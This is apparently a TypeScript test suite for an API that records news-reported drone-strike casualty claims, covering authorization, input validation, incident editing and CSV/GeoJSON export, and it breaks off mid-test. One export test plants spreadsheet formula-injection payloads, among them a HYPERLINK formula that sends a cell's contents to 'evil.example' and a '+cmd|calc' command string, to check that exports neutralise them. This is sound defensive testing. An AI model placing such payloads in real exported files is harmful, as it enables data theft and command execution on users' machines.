/**
 * @module The API's behaviour on a real store, in-process (`app.request`) and over a real socket; the SQLite and
 * PostgreSQL test files run it on both adapters.
 */
/* eslint-disable @typescript-eslint/no-unsafe-call, @typescript-eslint/no-unsafe-return, @typescript-eslint/no-unsafe-argument -- JSON answers are checked by expect(), not by types */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadConfig } from '../config.js'
import type { ClaimDraft } from '../domain/claim.js'
import type { Store } from '../storage/store.js'
import { createApp } from './app.js'
import { parseCsv } from '../importers/csv.js'
import { checkOpenApi31 } from './openapi-check.js'
import { startServer } from './server.js'
import { testDeps, type Extractor } from './test-helpers/test-deps.js'
import { apiDeps } from './deps.js'
import { documentUseCases } from '../app/document-use-cases.js'
import { FindingsRefresher } from '../app/findings-refresher.js'
import { matchesExpected, seedExpected, seedText, type ClaimLike } from '../../test/helpers/seed-fixture.js'


/** True when an API claim has every field the acceptance file lists for `e`. */

/** Drafts for every "killed N people" in a text, dated on the publication day: enough to exercise the API. */
export const killedExtractor: Extractor = (text, published) => {
  const claims: ClaimDraft[] = []
  for (const m of text.matchAll(/killed (\d+) people/g)) {
    const n = Number(m[1])
    claims.push({
      measure: 'killed',
      category: 'total',
      min: n,
      max: n,
      qualifier: 'exact',
      scope: 'incident',
      incidents: null,
      period: { start: published, end: published, precision: published === null ? null : 'day' },
      place: { name: 'Miranshah', admin1: 'North Waziristan', country: 'PK', lat: 33.0, lon: 70.07, precision: 'locality' },
      actor: 'United States',
      claimant: null,
      quote: m[0],
      span: { start: m.index, end: m.index + m[0].length },
      extractor: 'test@1',
      eventKey: null,
      names: [],
    })
  }
  return { claims, findings: [] }
}

type Json = Record<string, any> // eslint-disable-line @typescript-eslint/no-explicit-any

/** Runs the API suite against stores made by `open` (one store for the whole suite, records kept apart by text). */
export function runApiSuite(name: string, open: () => Promise<Store>): void {
  describe(`API on ${name}`, () => {
    let store: Store
    const tokens: Record<'viewer' | 'editor' | 'admin', string> = { viewer: '', editor: '', admin: '' }
    const config = loadConfig({ RECKON_RATE_LIMIT: '0', RECKON_MAX_BODY_BYTES: '4096', RECKON_MAX_DOCUMENT_BYTES: '20000' })
    const seedConfig = loadConfig({ RECKON_RATE_LIMIT: '0' })
    let app: ReturnType<typeof createApp>
    let seq = 0

    beforeAll(async () => {
      store = await open()
      for (const role of ['viewer', 'editor', 'admin'] as const) tokens[role] = (await store.tokens.create(`${role}-alice`, role, { actor: 'test' })).token
      app = createApp(store, config, testDeps(killedExtractor), { checkResponses: true, log: () => {} })
    })
    afterAll(async () => {
      await store?.close()
    })

    const call = async (method: string, path: string, opts: { token?: keyof typeof tokens; json?: unknown; body?: string | FormData; headers?: Record<string, string> } = {}) => {
      const headers: Record<string, string> = { ...opts.headers }
      if (opts.token) headers.authorization = `Bearer ${tokens[opts.token]}`
      let body = opts.body
      if (opts.json !== undefined) {
        headers['content-type'] = 'application/json'
        body = JSON.stringify(opts.json)
      }
      const res = await app.request(path, { method, headers, ...(body === undefined ? {} : { body }) })
      const text = await res.text()
      let json: Json = {}
      try {
        json = JSON.parse(text) as Json
      } catch {
        // CSV and other bodies are read from `text`.
      }
      return { status: res.status, json, text, headers: res.headers }
    }
    /** A unique article with one "killed N people" figure, published on `date`. */
    const article = (n: number, date = '2013-11-04') => ({ text: `Report ${++seq} (${name}): a drone strike killed ${n} people near Miranshah.`, published: date, publisher: 'Dawn', kind: 'news' })

    it('reports health and serves a valid OpenAPI 3.1 document', async () => {
      const h = await call('GET', '/api/health')
      expect(h.status).toBe(200)
      expect(h.json).toMatchObject({ ok: true, store: store.kind })
      const doc = await call('GET', '/api/openapi.json')
      expect(doc.status).toBe(200)
      expect(checkOpenApi31(doc.json)).toEqual([])
      expect(doc.headers.get('x-content-type-options')).toBe('nosniff')
      expect(doc.headers.get('content-security-policy')).toContain("default-src 'self'")
    })

    it('refuses an anonymous write with 401 and a viewer’s write with 403, storing nothing', async () => {
      const before = await store.sources.count()
      const anon = await call('POST', '/api/sources', { json: article(3) })
      expect(anon.status).toBe(401)
      expect(anon.json.error.code).toBe('unauthenticated')
      const bad = await call('POST', '/api/sources', { json: article(3), headers: { authorization: 'Bearer not-a-real-token' } })
      expect(bad.status).toBe(401)
      const viewer = await call('POST', '/api/sources', { token: 'viewer', json: article(3) })
      expect(viewer.status).toBe(403)
      expect(viewer.json.error.code).toBe('forbidden')
      expect(await store.sources.count()).toBe(before)
      const me = await call('GET', '/api/me', { token: 'viewer' })
      expect(me.json).toEqual({ authenticated: true, name: 'viewer-alice', role: 'viewer', privateReads: false })
    })

    it('stores a posted article with its claims, once', async () => {
      const a = article(7)
      const r = await call('POST', '/api/sources', { token: 'editor', json: a })
      expect(r.status).toBe(201)
      expect(r.json.created).toBe(true)
      expect(r.json.source).toMatchObject({ publisher: 'Dawn', published: '2013-11-04', text: a.text })
      expect(r.json.claims).toHaveLength(1)
      expect(r.json.claims[0]).toMatchObject({ min: 7, quote: 'killed 7 people', status: 'proposed', sourceId: r.json.source.id })
      const again = await call('POST', '/api/sources', { token: 'editor', json: a })
      expect(again.json.created).toBe(false)
      expect(again.json.claims.map((c: Json) => c.id)).toEqual(r.json.claims.map((c: Json) => c.id))
      const got = await call('GET', `/api/sources/${r.json.source.id}`)
      expect(got.json.text).toBe(a.text)
      const listed = await call('GET', `/api/claims?sourceId=${r.json.source.id}`)
      expect(listed.json.items.map((c: Json) => c.id)).toEqual(r.json.claims.map((c: Json) => c.id))
      const revs = await call('GET', `/api/revisions?entityType=source&entityId=${r.json.source.id}`)
      expect(revs.json.items[0]).toMatchObject({ actor: 'editor-alice', action: expect.any(String) })
    })

    it('accepts an upload as multipart/form-data and refuses one over the size limit', async () => {
      const form = new FormData()
      form.set('file', new File([`<html><head><title>Upload ${name}</title></head><body><p>A strike killed 4 people.</p></body></html>`], 'report.html', { type: 'text/html' }))
      form.set('published', '2014-01-02')
      const r = await call('POST', '/api/sources', { token: 'editor', body: form })
      expect(r.status).toBe(201)
      expect(r.json.source).toMatchObject({ mediaType: 'text/html', filename: 'report.html', title: `Upload ${name}` })
      expect(r.json.claims.map((c: Json) => c.min)).toEqual([4])
      const big = new FormData()
      big.set('file', new File(['x'.repeat(30_000)], 'big.txt', { type: 'text/plain' }))
      const tooBig = await call('POST', '/api/sources', { token: 'editor', body: big })
      expect(tooBig.status).toBe(413)
      const exe = new FormData()
      exe.set('file', new File(['MZ'], 'tool.exe'))
      expect((await call('POST', '/api/sources', { token: 'editor', body: exe })).status).toBe(415)
    })

    it('answers a bad request with 400 naming the field', async () => {
      const cases: [string, string, unknown, string][] = [
        ['POST', '/api/sources', { title: 'no text' }, 'body.text'],
        ['POST', '/api/sources', { text: 'x', published: '2013-02-30' }, 'body.published'],
        ['POST', '/api/claims/clm_x/reject', {}, 'body.reason'],
        ['PATCH', '/api/claims/clm_x', { edit: { quote: 'x' }, reason: 'r' }, 'body.edit.quote'],
        ['GET', '/api/incidents?limit=0', undefined, 'query.limit'],
        ['GET', '/api/incidents?from=yesterday', undefined, 'query.from'],
        ['GET', '/api/claims?status=maybe', undefined, 'query.status'],
        // Unknown keys are refused by name, not dropped: a typo must not yield an unfiltered answer.
        ['GET', '/api/incidents?minCasualty=5', undefined, 'query.minCasualty'],
        ['GET', '/api/totals?groupby=year', undefined, 'query.groupby'],
        ['GET', '/api/export/incidents.csv?counrty=PK', undefined, 'query.counrty'],
        ['GET', '/api/export/claims.csv?limit=5', undefined, 'query.limit'],
        ['GET', '/api/findings?kinds=contradiction', undefined, 'query.kinds'],
        ['POST', '/api/sources', { text: 'x', titel: 'typo' }, 'body.titel'],
        ['POST', '/api/claims/clm_x/reject', { reason: 'r', reasn: 'typo' }, 'body.reasn'],
        ['PATCH', '/api/claims/clm_x', { edit: { period: { start: null, end: null, precision: null, strat: '2013-01-01' } }, reason: 'r' }, 'body.edit.period.strat'],
        ['POST', '/api/extract', { text: 'x', publshed: '2013-01-01' }, 'body.publshed'],
      ]
      for (const [method, path, json, field] of cases) {
        const r = await call(method, path, { token: 'editor', json })
        expect({ path, status: r.status, field: r.json.error?.field }).toEqual({ path, status: 400, field })
        expect(r.json.error.message).toContain(field)
      }
      const form = new FormData()
      form.set('file', new File(['A strike killed 2 people.'], 'r.txt', { type: 'text/plain' }))
      form.set('publisher_name', 'Dawn')
      const upload = await call('POST', '/api/sources', { token: 'editor', body: form })
      expect({ status: upload.status, field: upload.json.error?.field }).toEqual({ status: 400, field: 'body.publisher_name' })
      const notJson = await call('POST', '/api/extract', { body: '{"text":', headers: { 'content-type': 'application/json' } })
      expect(notJson.status).toBe(400)
      expect(notJson.json.error.field).toBe('body')
      const tooLarge = await call('POST', '/api/claims/clm_x/reject', { token: 'editor', json: { reason: 'y'.repeat(5000) } })
      expect(tooLarge.status).toBe(413)
      expect((await call('GET', '/api/claims/clm_nope')).status).toBe(404)
      expect((await call('GET', '/api/nowhere')).json.error.code).toBe('not_found')
    })

    it('refuses a NUL, an unpaired surrogate or bytes that are not UTF-8 in any field with 400 naming it, storing nothing', async () => {
      const before = await store.sources.count()
      const stored = await call('POST', '/api/sources', { token: 'editor', json: article(6) })
      const id = stored.json.source.id as string
      const claimId = stored.json.claims[0].id as string
      const sourcesBefore = await store.sources.count()
      expect(sourcesBefore).toBe(before + 1)
      // Path ids and query values, percent-encoded NUL and bytes that do not decode as UTF-8.
      const urls: [string, string, string][] = [
        ['GET', '/api/sources/src%00x', 'params.id'],
        ['GET', '/api/claims/%FF', 'params.id'],
        ['GET', `/api/claims/${claimId}%00/suggestions`, 'params.id'],
        ['GET', '/api/incidents/inc%C3%28', 'params.id'],
        ['POST', '/api/claims/%00/accept', 'params.id'],
        ['GET', '/api/incidents?country=P%00K', 'query.country'],
        ['GET', '/api/sources?q=caf%E9', 'query.q'],
        ['GET', `/api/claims?sourceId=${id}%00`, 'query.sourceId'],
        ['GET', '/api/revisions?entityType=claim&entityId=%00', 'query.entityId'],
        ['GET', '/api/export/incidents.csv?actor=%FE%FF', 'query.actor'],
        ['GET', '/api/totals?from=2013-01-01%00', 'query.from'],
      ]
      for (const [method, path, field] of urls) {
        const r = await call(method, path, { token: 'editor', ...(method === 'POST' ? { json: {} } : {}) })
        expect({ path, status: r.status, code: r.json.error?.code, field: r.json.error?.field }).toEqual({ path, status: 400, code: 'invalid_input', field })
      }
      // JSON bodies: NUL and unpaired surrogates arrive as \u escapes, anywhere in the document.
      const bodies: [string, string, unknown, string][] = [
        ['POST', '/api/sources', { text: 'A strike killed 3 people.\u0000' }, 'body.text'],
        ['POST', '/api/sources', { text: 'A strike killed 3 people.', title: 'T\ud800' }, 'body.title'],
        ['POST', '/api/sources', { text: 'A strike killed 3 people.', publisher: '\u0000' }, 'body.publisher'],
        ['POST', `/api/claims/${claimId}/reject`, { reason: 'no\u0000' }, 'body.reason'],
        ['PATCH', `/api/claims/${claimId}`, { edit: { place: { name: 'Mir\u0000Ali', admin1: null, country: 'PK', lat: null, lon: null, precision: 'locality' } }, reason: 'r' }, 'body.edit.place.name'],
        ['POST', '/api/extract', { text: 'killed 2 people\udfff' }, 'body.text'],
      ]
      for (const [method, path, json, field] of bodies) {
        const r = await call(method, path, { token: 'editor', json })
        expect({ path, status: r.status, field: r.json.error?.field }).toEqual({ path, status: 400, field })
      }
      // Bytes that are not UTF-8 inside a JSON string: refused, not replaced and stored.
      const raw = async (path: string, bytes: Uint8Array, contentType: string) => {
        const res = await app.request(path, { method: 'POST', headers: { authorization: `Bearer ${tokens.editor}`, 'content-type': contentType }, body: bytes })
        return { status: res.status, json: (await res.json()) as Json }
      }
      const latin1 = (s: string) => Uint8Array.from(s, (ch) => ch.charCodeAt(0))
      const badJson = await raw('/api/sources', latin1('{"text":"A strike killed 3 people in Pe\xf1a.","publisher":"x"}'), 'application/json')
      expect({ status: badJson.status, field: badJson.json.error?.field }).toEqual({ status: 400, field: 'body.text' })
      // Multipart: a text field with a NUL or bytes that are not UTF-8, and two files in one upload.
      const boundary = 'reckon-boundary-1'
      const multipart = (parts: string[]) => latin1(`${parts.map((p) => `--${boundary}\r\n${p}\r\n`).join('')}--${boundary}--\r\n`)
      const file = (name: string) => `Content-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\nA strike killed 2 people.`
      const type = `multipart/form-data; boundary=${boundary}`
      for (const [parts, field] of [
        [[file('a.txt'), 'Content-Disposition: form-data; name="publisher"\r\n\r\nDa\x00wn'], 'body.publisher'],
        [[file('a.txt'), 'Content-Disposition: form-data; name="title"\r\n\r\nPe\xf1a'], 'body.title'],
        [[file('a.txt'), file('b.txt')], 'body.file'],
      ] as [string[], string][]) {
        const r = await raw('/api/sources', multipart(parts), type)
        expect({ field, status: r.status, got: r.json.error?.field }).toEqual({ field, status: 400, got: field })
      }
      // The same framing with good text is stored: the refusals above are about the text, not the encoding of the form.
      const good = await raw('/api/sources', multipart([file(`good-${name}.txt`).replace('2 people', `2 people (${name} upload)`), 'Content-Disposition: form-data; name="title"\r\n\r\nPe\xc3\xb1a']), type)
      expect(good.status).toBe(201)
      expect(good.json.source.title).toBe('Peña')
      expect(await store.sources.count()).toBe(sourcesBefore + 1)
    })

    it('refuses unknown query keys on every route, those without query parameters too', async () => {
      const stored = await call('POST', '/api/sources', { token: 'editor', json: article(8) })
      const id = stored.json.source.id as string
      const claimId = stored.json.claims[0].id as string
      for (const path of ['/api/health?verbose=1', `/api/sources/${id}?full=1`, `/api/claims/${claimId}/suggestions?limit=3`, '/api/me?x=', '/api/openapi.json?v=2']) {
        const r = await call('GET', path, { token: 'editor' })
        const key = new URL(path, 'http://x').searchParams.keys().next().value
        expect({ path, status: r.status, field: r.json.error?.field }).toEqual({ path, status: 400, field: `query.${key}` })
      }
      expect((await call('GET', `/api/sources/${id}`)).status).toBe(200)
    })

    it('records who and why for an edit, accept and reject, and re-reconciles the incident', async () => {
      const posted = await call('POST', '/api/sources', { token: 'editor', json: article(9, '2015-03-03') })
      const claimId = posted.json.claims[0].id as string
      const moved = await call('POST', `/api/claims/${claimId}/move`, { token: 'editor', json: { incidentId: null, reason: 'a strike of its own' } })
      expect(moved.status).toBe(200)
      const incidentId = moved.json.incidentId as string
      expect(incidentId).toMatch(/^inc_/)
      const edited = await call('PATCH', `/api/claims/${claimId}`, { token: 'editor', json: { edit: { min: 8, max: 10, qualifier: 'range' }, reason: 'hospital list gives 8 to 10' } })
      expect(edited.status).toBe(200)
      expect(edited.json).toMatchObject({ min: 8, max: 10 })
      const history = await call('GET', `/api/revisions?entityType=claim&entityId=${claimId}`)
      const edit = history.json.items.find((r: Json) => r.why === 'hospital list gives 8 to 10')
      expect(edit).toMatchObject({ actor: 'editor-alice', entityId: claimId })
      expect(edit.before).toMatchObject({ min: 9 })
      expect(edit.after).toMatchObject({ min: 8, max: 10 })
      const detail = await call('GET', `/api/incidents/${incidentId}`)
      expect(detail.json.incident.figures).toContainEqual(expect.objectContaining({ measure: 'killed', category: 'total', min: 8, max: 10 }))
      expect(detail.json.claims[0]).toMatchObject({ id: claimId, quote: 'killed 9 people', source: { id: posted.json.source.id, publisher: 'Dawn' } })
      expect(detail.json.sources.map((s: Json) => s.id)).toEqual([posted.json.source.id])
      // Findings are reviewed by editors, with a reason: a viewer may not, and an unknown finding is 404.
      expect((await call('POST', '/api/findings/fnd_nope/dismiss', { token: 'viewer', json: { reason: 'misread' } })).status).toBe(403)
      expect((await call('POST', '/api/findings/fnd_nope/dismiss', { token: 'editor', json: { reason: 'misread' } })).status).toBe(404)
      expect((await call('POST', '/api/findings/fnd_nope/confirm', { token: 'editor', json: {} })).status).toBe(400)
      const rejected = await call('POST', `/api/claims/${claimId}/reject`, { token: 'editor', json: { reason: 'duplicate wire copy' } })
      expect(rejected.json.status).toBe('rejected')
      const after = await call('GET', `/api/incidents/${incidentId}`)
      expect(after.json.incident.figures.filter((f: Json) => f.measure === 'killed')).toEqual([])
      const why = await call('GET', `/api/revisions?entityType=claim&entityId=${claimId}`)
      expect(why.json.items[0]).toMatchObject({ actor: 'editor-alice', why: 'duplicate wire copy' })
      const accepted = await call('POST', `/api/claims/${claimId}/accept`, { token: 'admin', json: {} })
      expect(accepted.json.status).toBe('accepted')
      // The incident's history holds its claims' reviews too: who, when and why, newest first.
      const log = (await call('GET', `/api/incidents/${incidentId}`)).json.revisions as Json[]
      const claimActions = log.filter((r) => r.entityType === 'claim' && r.entityId === claimId).map((r) => [r.action, r.actor, r.why])
      expect(claimActions.slice(0, 3)).toEqual([
        ['status', expect.any(String), 'accepted'],
        ['status', 'editor-alice', 'duplicate wire copy'],
        ['edit', 'editor-alice', 'hospital list gives 8 to 10'],
      ])
      expect(log.some((r) => r.entityType === 'incident' && r.entityId === incidentId)).toBe(true)
      expect(log.map((r) => r.at)).toEqual([...log.map((r) => r.at as string)].sort().reverse())
    })

    it('lists, filters, merges and splits incidents, and totals them', async () => {
      const ids: string[] = []
      for (const [n, date] of [
        [2, '2016-05-01'],
        [5, '2016-05-02'],
        [11, '2016-06-10'],
      ] as const) {
        const p = await call('POST', '/api/sources', { token: 'editor', json: article(n, date) })
        const m = await call('POST', `/api/claims/${p.json.claims[0].id}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })
        ids.push(m.json.incidentId as string)
      }
      const list = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&country=pk&sort=date')
      expect(list.status).toBe(200)
      expect(list.json.items.map((i: Json) => i.id)).toEqual(ids)
      // A country name reads as its code; one naming no country is refused with suggestions, never an empty list.
      const byName = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&country=Pakistan&sort=date')
      expect(byName.json.items.map((i: Json) => i.id)).toEqual(ids)
      const typo = await call('GET', '/api/incidents?country=Pakistn')
      expect(typo.status).toBe(400)
      expect(typo.json.error.message).toMatch(/"Pakistn" is not a country; did you mean Pakistan \(PK\)/)
      expect((await call('GET', '/api/export/incidents.csv?country=Narnia')).status).toBe(400)
      const named = await call('GET', '/api/export/incidents.geojson?country=Pakistan&from=2016-05-01&to=2016-06-30')
      expect(named.headers.get('content-disposition')).toBe('attachment; filename="reckon-incidents-PK-2016-05-01_2016-06-30.geojson"')
      // An editor corrects the place and grades the strike; each change is a revision with its reason.
      const dattaKhel = { name: 'Datta Khel', admin1: 'North Waziristan', admin2: null, country: 'PK', lat: 32.95, lon: 69.85, precision: 'locality' }
      const edited = await call('PATCH', `/api/incidents/${ids[2]}`, { token: 'editor', json: { patch: { place: dattaKhel, grade: 'fair', date: { start: '2016-06-10', end: '2016-06-10', precision: 'day' } }, reason: 'the report names the village; one credible source' } })
      expect(edited.status).toBe(200)
      expect(edited.json).toMatchObject({ place: { name: 'Datta Khel', precision: 'locality' }, grade: 'fair' })
      const edits = (await call('GET', `/api/incidents/${ids[2]}`)).json.revisions as Json[]
      expect(edits.find((r: Json) => r.action === 'update')).toMatchObject({ actor: 'editor-alice', why: 'the report names the village; one credible source' })
      expect((await call('PATCH', `/api/incidents/${ids[2]}`, { token: 'viewer', json: { patch: { grade: 'weak' }, reason: 'x' } })).status).toBe(403)
      const backwards = await call('PATCH', `/api/incidents/${ids[2]}`, { token: 'editor', json: { patch: { date: { start: '2016-06-10', end: '2016-06-01', precision: 'span' } }, reason: 'x' } })
      expect(backwards.status).toBe(400)
      expect((await call('PATCH', `/api/incidents/${ids[2]}`, { token: 'editor', json: { patch: { grade: 'fair' } } })).status).toBe(400)
      // Search finds the incidents through the words of their reports, with the matching words marked.
      const searched = await call('GET', `/api/search?q=${encodeURIComponent('drone Miranshah')}&limit=50`)
      expect(searched.status).toBe(200)
      expect(searched.json.incidents.map((x: Json) => x.incident.id)).toEqual(expect.arrayContaining(ids))
      expect(searched.json.sources.items[0].snippet).toMatch(/«Miranshah»/)
      expect((await call('GET', '/api/search?q=')).status).toBe(400)
      // The gazetteer for pickers: every country for the country box, a village searched by the start of its name.
      const countries = await call('GET', '/api/places?kind=country&limit=500')
      expect(countries.json.items.find((c: Json) => c.id === 'PK')?.place).toMatchObject({ name: 'Pakistan', precision: 'country' })
      const village = await call('GET', '/api/places?q=miransh')
      expect(village.json.items[0].place).toMatchObject({ name: 'Miranshah', admin1: 'North Waziristan', country: 'PK', precision: 'locality' })
      const paged = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&sort=date&limit=1&offset=1')
      expect(paged.json).toMatchObject({ total: 3, limit: 1, offset: 1, items: [{ id: ids[1] }] })
      const big = await call('GET', '/api/incidents?from=2016-05-01&to=2016-06-30&minCasualties=5&sort=date')
      expect(big.json.items.map((i: Json) => i.id)).toEqual([ids[1], ids[2]])
      const totals = await call('GET', '/api/totals?groupBy=month&from=2016-05-01&to=2016-06-30')
      expect(totals.json.rows.filter((r: Json) => r.measure === 'killed' && r.category === 'total')).toEqual([
        { group: '2016-05', measure: 'killed', category: 'total', low: 7, high: 7, incidents: 2 },
        { group: '2016-06', measure: 'killed', category: 'total', low: 11, high: 11, incidents: 1 },
      ])
      expect(totals.json.notByMonth).toEqual([])
      // An incident dated only to a year is summed apart, under its year, never in January.
      const yearOnly = await call('POST', '/api/sources', { token: 'editor', json: article(4, '2009-07-01') })
      const yearIncident = (await call('POST', `/api/claims/${yearOnly.json.claims[0].id}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })).json.incidentId as string
      await store.incidents.update(yearIncident as never, { date: { start: '2009-01-01', end: '2009-12-31', precision: 'year' } }, { actor: 'test' })
      const byMonth = await call('GET', '/api/totals?groupBy=month&from=2009-01-01&to=2009-12-31&category=total')
      expect(byMonth.json).toMatchObject({ rows: [], notByMonth: [{ group: '2009', measure: 'killed', category: 'total', low: 4, high: 4, incidents: 1 }] })
      const byYear = await call('GET', '/api/totals?groupBy=year&from=2009-01-01&to=2009-12-31&category=total')
      expect(byYear.json).toMatchObject({ rows: [{ group: '2009', low: 4, incidents: 1 }], notByMonth: [] })
      const sameUrl = '/api/incidents?from=2016-05-01&to=2016-05-31'
      expect((await call('GET', sameUrl)).json.total).toBe(2)
      const merged = await call('POST', `/api/incidents/${ids[1]}/merge`, { token: 'editor', json: { into: ids[0], reason: 'same strike, two reports' } })
      expect(merged.status).toBe(200)
      expect(merged.json.figures).toContainEqual(expect.objectContaining({ measure: 'killed', category: 'total', min: 2, max: 5 }))
      // The same URL again: the write emptied the read cache, so the merged incident is gone at once.
      const gone = await call('GET', sameUrl)
      expect(gone.json.items.map((i: Json) => i.id)).toEqual([ids[0]])
      const suggestions = await call('GET', `/api/claims/${merged.json.links[0].claimId}/suggestions`)
      expect(suggestions.json[0].incident.id).toBe(ids[0])
      const moveAway = merged.json.links.find((l: Json) => l.reason === 'same strike, two reports' || true).claimId as string
      const split = await call('POST', `/api/incidents/${ids[0]}/split`, { token: 'editor', json: { claimIds: [moveAway], reason: 'two strikes after all' } })
      expect(split.status).toBe(201)
      expect(split.json.to.links.map((l: Json) => l.claimId)).toEqual([moveAway])
      expect(split.json.from.links.map((l: Json) => l.claimId)).not.toContain(moveAway)
      const notIn = await call('POST', `/api/incidents/${ids[2]}/split`, { token: 'editor', json: { claimIds: [moveAway], reason: 'x' } })
      expect(notIn.json.error.field).toBe('body.claimIds.0')
      const history = await call('GET', `/api/incidents/${ids[1]}`)
      expect(history.json.incident).toMatchObject({ status: 'merged', mergedInto: ids[0] })
      expect(history.json.revisions.some((r: Json) => r.actor === 'editor-alice' && r.why === 'same strike, two reports')).toBe(true)
    })

    it('filters incidents, totals and every export by grade', async () => {
      const made: { incident: string; claim: string }[] = []
      for (const n of [3, 4]) {
        const p = await call('POST', '/api/sources', { token: 'editor', json: article(n, '2018-03-0' + String(n)) })
        const claim = p.json.claims[0].id as string
        const m = await call('POST', `/api/claims/${claim}/move`, { token: 'editor', json: { incidentId: null, reason: 'new strike' } })
        made.push({ incident: m.json.incidentId as string, claim })
      }
      await store.incidents.update(made[1]!.incident as never, { grade: 'fair' }, { actor: 'test', why: 'graded' })
      const window = 'from=2018-03-01&to=2018-03-31'
      const listed = await call('GET', `/api/incidents?${window}&grade=fair`)
      expect(listed.json).toMatchObject({ total: 1, items: [{ id: made[1]!.incident, grade: 'fair' }] })
      expect((await call('GET', `/api/incidents?${window}`)).json.total).toBe(2)
      const totals = await call('GET', `/api/totals?groupBy=year&${window}&grade=fair`)
      expect(totals.json.rows).toEqual([{ group: '2018', measure: 'killed', category: 'total', low: 4, high: 4, incidents: 1 }])
      const csv = parseCsv((await call('GET', `/api/export/incidents.csv?${window}&grade=fair`)).text)
      expect(csv.slice(1).map((r) => [r[0], r[csv[0]!.indexOf('grade')]])).toEqual([[made[1]!.incident, 'fair']])
      const claims = parseCsv((await call('GET', `/api/export/claims.csv?${window}&grade=fair`)).text)
      expect(claims.slice(1).map((r) => r[0])).toEqual([made[1]!.claim])
      const json = await call('GET', `/api/export/incidents.json?${window}&grade=fair`)
      expect(json.json).toMatchObject({ filter: { grade: 'fair' }, incidents: [{ id: made[1]!.incident }] })
      const geo = await call('GET', `/api/export/incidents.geojson?${window}&grade=weak`)
      expect(geo.json.features).toEqual([])
      const bad = await call('GET', `/api/incidents?grade=certain`)
      expect({ status: bad.status, field: bad.json.error.field }).toEqual({ status: 400, field: 'query.grade' })
    })

    it('exports CSV with no cell a spreadsheet would execute, and GeoJSON with precision', async () => {
      const evil = `=HYPERLINK("http://evil.example/?"&A1,"click") ${name} killed 6 people`
      const p = await call('POST', '/api/sources', { token: 'editor', json: { text: evil, published: '2017-02-02', publisher: '@SUM(1+1)', title: '-2+3' } })
      const claimId = p.json.claims[0].id as string
      const m = await call('POST', `/api/claims/${claimId}/move`, { token: 'editor', json: { incidentId: null, reason: '+cmd|calc' } })
      const incidentId = m.json.incidentId as string
      await store.incidents.update(incidentId as never, { actor: '=1+1', target: '\t=2', place: { name: '+Miranshah', admin1: '-North', country: 'PK', lat: 33.0, lon: 70.07, precision: 'locality' } }, { actor: 'test' })
      await call('PATCH', `/api/claims/${claimId}`, { token: 'editor', json: { edit: { claimant: '@local officials' }, reason: 'named' } })
      for (const path of ['/api/export/incidents.csv?from=2017-01-01&to=2017-12-31', `/api/export/claims.csv?sourceId=${p.json.source.id}`, '/api/export/claims.csv?from=2017-01-01&to=2017-12-31']) {
        const r = await call('GET', path)
        expect(r.status).toBe(200)
        expect(r.headers.get('content-type')).toContain('text/csv')
        const rows = parseCsv(r.text)
        expect(rows.length).toBe(2)
        expect(rows[1]!.length).toBe(rows[0]!.length)
        for (const cell of rows.flat()) expect(/^[=+\-@\t\r]/.test(cell), `${path}: ${cell}`).toBe(false)
        expect(rows.flat().some((c) => /^'[=+\-@]/.test(c))).toBe(true)
      }
      const inc = parseCsv((await call('GET', '/api/export/incidents.csv?from=2017-01-01&to=2017-12-31')).text)
      const header = inc[0]!
      const row = Object.fromEntries(header.map((h, i) => [h, inc[1]![i]]))
      expect(row).toMatchObject({ id: incidentId, actor: "'=1+1", killed_total_low: '6', killed_total_high: '6', source_ids: p.json.source.id, publishers: "'@SUM(1+1)" })
      const geo = await call('GET', '/api/export/incidents.geojson?from=2017-01-01&to=2017-12-31')
      expect(geo.json.type).toBe('FeatureCollection')
      expect(geo.json.features).toEqual([expect.objectContaining({ geometry: { type: 'Point', coordinates: [70.07, 33.0] }, properties: expect.objectContaining({ id: incidentId, precision: 'locality', killedLow: 6 }) })])
      const json = await call('GET', '/api/export/incidents.json?from=2017-01-01&to=2017-12-31')
      expect(json.json.incidents.map((i: Json) => i.id)).toEqual([incidentId])
    })

    const postSeed = async (app: ReturnType<typeof createApp>): Promise<{ posted: Json; extracted: Json }> => {
      const server = await startServer(app, '127.0.0.1', 0)
      try {
        const form = new FormData()
        form.set('file', new File([seedText], 'seed-article.txt', { type: 'text/plain' }))
        form.set('published', seedExpected.published)
        form.set('kind', 'news')
        const res = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { authorization: `Bearer ${tokens.editor}` }, body: form })
        expect(res.status).toBe(201)
        const posted = (await res.json()) as Json
        const r = await fetch(`${server.url}/api/extract`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: posted.source.text, published: seedExpected.published }) })
        return { posted, extracted: (await r.json()) as Json }
      } finally {
        await server.close()
      }
    }

    it('yields the seed article’s claims when an editor uploads it (every extracted claim stored, one per claim key)', async () => {
      const refresher = new FindingsRefresher(store, (e) => {
        throw e
      })
      const real = createApp(store, seedConfig, apiDeps(documentUseCases()), { checkResponses: true, log: () => {}, onWrite: () => refresher.request() })
      const anon = await real.request('/api/sources', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: seedText }) })
      expect(anon.status).toBe(401)
      const { posted, extracted } = await postSeed(real)
      expect(posted.source.published).toBe(seedExpected.published)
      for (const e of seedExpected.claims) expect(extracted.claims.some((c: Json) => matchesExpected(c as ClaimLike, e)), e.quote_contains).toBe(true)
      expect(extracted.findings.some((f: Json) => f.kind === 'contradiction')).toBe(true)
      // The store keeps one claim per (source, extractor, span, measure, category): the posted answer holds one
      // stored claim for every extracted draft, identical in its fields when its key is not shared.
      const key = (c: Json) => `${c.span.start}|${c.span.end}|${c.measure}|${c.category}`
      expect(new Set(posted.claims.map(key))).toEqual(new Set(extracted.claims.map(key)))
      const once = extracted.claims.filter((c: Json) => extracted.claims.filter((d: Json) => key(d) === key(c)).length === 1)
      for (const c of once) expect(posted.claims.find((p: Json) => key(p) === key(c))).toMatchObject({ min: c.min, max: c.max, claimant: c.claimant, quote: c.quote })
      for (const c of posted.claims) expect(posted.source.text.slice(c.span.start, c.span.end)).toBe(c.quote)
      // The pipeline linked every incident claim to an incident, and the incident's figures trace back to claims.
      const linked = posted.claims.filter((c: Json) => c.scope === 'incident')
      expect(linked.length).toBeGreaterThan(0)
